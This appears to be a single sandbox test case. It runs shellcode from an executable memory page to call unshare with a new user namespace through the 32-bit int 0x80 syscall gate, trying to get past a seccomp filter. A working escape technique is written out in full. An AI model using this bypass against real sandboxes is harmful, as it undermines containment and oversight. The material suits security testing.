# id: SB-06
# kind: across the boundary
# where: call
# status: passed crashed
# arch: x86_64
# needs: seccomp
import ctypes
import mmap


def attack():
    """unshare by the gate for programs of 32 bits, whose numbers are others."""
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    if ctypes.CFUNCTYPE(ctypes.c_int)(start)() == 0:
        escaped("unshare")
